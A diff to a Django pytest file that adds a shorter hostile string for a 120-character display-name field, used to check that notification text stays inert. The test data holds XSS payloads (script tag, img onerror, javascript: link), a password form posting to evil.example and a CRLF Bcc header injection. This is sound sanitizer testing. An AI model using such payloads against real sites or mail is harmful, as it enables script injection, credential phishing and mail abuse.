@@ -18,6 +18,8 @@ HOSTILE = (
     "<form action=https://evil.example><input type=password name=p></form> "
     '"><a href=javascript:alert(1)>x</a>\r\nBcc: victim@example.org'
 )
+# For fields as short as a display name (120): the same attacks, fewer characters.
+SHORT_HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(1)>"><a href=javascript:x>x</a>'
 # A link, because Markdown fields (thread posts) may hold one: the sanitizer's own <a>.
 HARMLESS = "Plain words\nand [the notes](https://example.org/notes)"
 VARIABLE = re.compile(r"(?:{{\s*|\bwith\s+\w+=|\bif\s+|\|\w+:)([a-z_]\w*(?:\.\w+)*)")
@@ -133,7 +135,7 @@ def immediate_update(*, name: str, body: str, author_name: str):
 
 @pytest.mark.django_db
 def test_an_effort_update_with_hostile_text_reaches_followers_as_text():
-    hostile = immediate_update(name=HOSTILE, body=HOSTILE, author_name=HOSTILE)
+    hostile = immediate_update(name=HOSTILE, body=HOSTILE, author_name=SHORT_HOSTILE)
     harmless = immediate_update(name=HARMLESS, body=HARMLESS, author_name=HARMLESS)
     assert_inert(hostile, harmless)
 
